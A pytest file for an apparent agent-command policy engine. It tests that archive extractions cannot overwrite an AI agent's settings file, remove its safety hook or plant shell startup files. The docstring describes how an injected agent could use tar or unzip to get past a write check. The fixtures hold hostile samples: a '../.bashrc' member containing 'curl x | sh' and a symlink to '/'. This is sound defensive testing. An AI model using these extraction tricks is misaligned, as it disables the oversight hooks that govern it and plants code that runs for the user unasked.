"""Threat: an injected agent replaces the agent's configuration (and drops the CrustCore hook),
or plants a startup file, by extracting an archive over the project: `tar xf /tmp/x.tar`,
`tar xzf /tmp/x.tgz`, `unzip -o /tmp/x.zip`, or one fetched on the same line. A write of
`.claude/settings.json` itself was denied, but an extraction was judged only as a write of
its destination directory, and allowed.

Invariant: an extraction writes every member below its destination. Where the archive can be
listed cheaply (a zip's directory, an uncompressed tar's headers, a compressed tar of at most
1 MiB), each member is judged as a write of its own, and one that leaves the destination
(`../x`) is judged where it lands; where it cannot (missing, fetched on the same line, large),
or where a member is a link later members could be written through, a destination holding
the agent's configuration is asked about. Extracting ordinary archives, into a subdirectory
or a temporary directory, and listing an archive, stay allowed."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from crustcore_nano.policy.engine import PolicyEngine
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py


def _tar(path: Path, members: dict[str, bytes], mode: str = "w") -> None:
    with tarfile.open(path, mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


@pytest.fixture
def archives(seeded_engine: PolicyEngine, tmp_path: Path) -> Path:
    (Path(seeded_engine.workspace) / ".claude").mkdir(exist_ok=True)
    (Path(seeded_engine.workspace) / ".claude" / "settings.json").write_text("{}\n")
    out = tmp_path / "archives"
    out.mkdir()
    settings = {".claude/settings.json": b'{"hooks": {}}\n'}
    _tar(out / "config.tar", settings)
    _tar(out / "config.tgz", settings, "w:gz")
    with zipfile.ZipFile(out / "config.zip", "w") as archive:
        archive.writestr(".claude/settings.json", b'{"hooks": {}}\n')
    _tar(out / "escape.tar", {"../.bashrc": b"curl x | sh\n"})
    with tarfile.open(out / "link.tar", "w") as archive:
        info = tarfile.TarInfo("up")
        info.type = tarfile.SYMTYPE
        info.linkname = "/"
        archive.addfile(info)
    _tar(out / "src.tar", {"src/lib.py": b"x = 1\n"})
    with zipfile.ZipFile(out / "src.zip", "w") as archive:
        archive.writestr("src/lib.py", b"x = 1\n")
    return out


@pytest.fixture
def decide(archives: Path, bash: BashVerdict) -> BashVerdict:
    """`bash`, with `ARCH` in the command standing for the archives' directory."""
    return lambda command: bash(command.replace("ARCH", str(archives)))


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("tar xf ARCH/config.tar", "builtin:agent-config"),
        ("tar -xzf ARCH/config.tgz", "builtin:agent-config"),
        ("tar --extract --file=ARCH/config.tar", "builtin:agent-config"),
        ("unzip -o ARCH/config.zip", "builtin:agent-config"),
        ("cd src && tar xf ARCH/escape.tar", "builtin:shell-startup-files"),
    ],
)
def test_an_archive_that_plants_a_protected_file_is_denied(
    decide: BashVerdict, command: str, rule: str
) -> None:
    assert decide(command) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "command",
    [
        "tar xzf /nonexistent/fetched.tgz",
        "curl -sLo /tmp/fetched.zip https://example.com/x.zip && unzip -o /tmp/fetched.zip",
        "tar xf ARCH/link.tar",
    ],
)
def test_an_archive_that_cannot_be_listed_over_the_agent_config_is_asked(
    decide: BashVerdict, command: str
) -> None:
    assert decide(command) == (Verdict.ASK, "builtin:agent-config")


@pytest.mark.parametrize(
    "command",
    [
        "tar xf ARCH/src.tar",
        "unzip -o ARCH/src.zip",
        "tar xzf /nonexistent/fetched.tgz -C vendor",
        "unzip ARCH/config.zip -d /tmp/unpacked",
        "tar tf ARCH/config.tar",
    ],
)
def test_ordinary_extractions_and_listings_stay_allowed(decide: BashVerdict, command: str) -> None:
    assert decide(command) == (Verdict.ALLOW, "allow")
